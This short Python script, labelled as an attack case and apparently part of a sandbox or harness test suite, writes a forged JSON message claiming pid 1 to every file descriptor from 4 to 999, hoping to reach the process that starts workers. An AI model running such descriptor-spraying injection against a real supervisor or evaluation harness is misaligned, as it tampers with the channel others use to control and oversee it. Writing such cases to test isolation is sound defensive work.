# /// attack
# story = "Every descriptor up to the thousandth is written to: one may lead to the process that starts workers."
# unit = "value"
# ///
import os

for descriptor in range(4, 1_000):
    try:
        os.write(descriptor, b'{"pid": 1}\n')
    except OSError:
        pass
